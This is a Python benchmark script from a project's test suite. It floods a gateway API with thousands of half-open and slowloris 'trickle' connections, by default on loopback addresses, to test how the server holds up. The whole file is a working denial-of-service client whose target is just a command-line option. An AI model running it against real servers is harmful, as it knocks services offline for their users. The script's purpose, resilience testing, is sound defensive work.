#!/usr/bin/env python3
"""A hostile HTTP client for the gateway's API (issue 9): half-open connections and slowloris tricklers.

Each half-open connection sends the start of a request and then nothing; each trickler sends the start of a request
and then one header byte every --trickle-interval seconds. A connection the server closes is opened again (a real
attacker keeps the pressure on) until --duration passes; then everything is closed and the script prints what it
saw and exits. Python 3.8+, standard library only.

  python3 benchmarks/scripts/slowloris.py --half-open 2000 --trickle 200 --duration 60 \\
      --sources 127.0.0.2,127.0.0.3,127.0.0.4,127.0.0.5

--sources spreads the connections over local addresses (on Linux every 127.x.y.z is loopback), so the attack looks
like several hosts and the legitimate load from 127.0.0.1 is another client, as it would be in production.
"""
import argparse
import asyncio
import statistics
import sys
import time

REQUEST_START = b"POST /v1/messages HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\nX-Slow: "


class Stats:
    def __init__(self):
        self.opened = 0
        self.refused = 0
        self.closed_by_server = []  # seconds each connection was held
        self.failed_connects = 0


async def attacker(index, args, host, port, source, trickle, deadline, stats):
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, port, local_addr=(source, 0)), timeout=5)
        except (OSError, asyncio.TimeoutError):
            stats.failed_connects += 1
            await asyncio.sleep(1)
            continue
        stats.opened += 1
        opened = time.monotonic()
        try:
            writer.write(REQUEST_START)
            await writer.drain()
            while time.monotonic() < deadline:
                wait = args.trickle_interval if trickle else deadline - time.monotonic()
                try:
                    data = await asyncio.wait_for(reader.read(1024), timeout=max(0.01, wait))
                except asyncio.TimeoutError:
                    if trickle:
                        writer.write(b"a")
                        await writer.drain()
                    continue
                if not data:
                    raise ConnectionResetError("closed by the server")
        except (OSError, ConnectionError):
            held = time.monotonic() - opened
            if held < 0.05:
                stats.refused += 1
            else:
                stats.closed_by_server.append(held)
            await asyncio.sleep(args.reconnect_delay)
        finally:
            writer.close()


async def main(args):
    host, port = args.target.rsplit(":", 1)
    sources = args.sources.split(",")
    deadline = time.monotonic() + args.duration
    stats = Stats()
    tasks = []
    total = args.half_open + args.trickle
    for i in range(total):
        tasks.append(asyncio.ensure_future(attacker(i, args, host, int(port), sources[i % len(sources)],
                                                    i >= args.half_open, deadline, stats)))
        if i % 200 == 199:
            await asyncio.sleep(0.05)  # do not flood the accept backlog in one go
    report = asyncio.ensure_future(progress(stats, deadline))
    await asyncio.gather(*tasks, return_exceptions=True)
    report.cancel()
    held = stats.closed_by_server
    print("slowloris: connections opened %d, refused at once %d, cut off by the server %d (held median %.1f s,"
          " max %.1f s), connect failures %d, held until the end %d" % (
              stats.opened, stats.refused, len(held), statistics.median(held) if held else 0.0,
              max(held) if held else 0.0, stats.failed_connects, stats.opened - stats.refused - len(held)))


async def progress(stats, deadline):
    while time.monotonic() < deadline:
        await asyncio.sleep(5)
        print("slowloris: opened %d, refused %d, cut off %d" % (stats.opened, stats.refused,
                                                                  len(stats.closed_by_server)), file=sys.stderr)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--target", default="127.0.0.1:8080", help="host:port of the API (default 127.0.0.1:8080)")
    parser.add_argument("--half-open", type=int, default=2000, help="connections that stop mid-request (2000)")
    parser.add_argument("--trickle", type=int, default=200, help="connections that trickle a byte at a time (200)")
    parser.add_argument("--trickle-interval", type=float, default=1.0, help="seconds between trickled bytes (1)")
    parser.add_argument("--duration", type=float, default=60, help="seconds before the script stops (60)")
    parser.add_argument("--reconnect-delay", type=float, default=0.5, help="seconds before reopening (0.5)")
    parser.add_argument("--sources", default="127.0.0.1", help="comma-separated local addresses to connect from")
    asyncio.run(main(parser.parse_args()))
